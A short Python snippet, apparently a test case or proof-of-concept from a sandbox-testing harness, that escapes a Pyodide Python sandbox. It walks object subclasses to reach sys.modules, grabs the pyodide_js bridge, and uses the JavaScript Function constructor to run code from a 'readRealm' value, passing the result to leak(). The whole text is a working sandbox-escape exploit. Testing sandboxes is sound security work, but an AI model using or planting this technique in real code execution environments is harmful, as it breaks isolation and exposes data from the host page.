modules = None
for each in ().__class__.__base__.__subclasses__():
    scope = getattr(each.__init__, "__globals__", None)
    if scope and "sys" in scope:
        modules = scope["sys"].modules
        break
witness()
leak(modules["pyodide_js"].runPython.constructor(trial["readRealm"])())
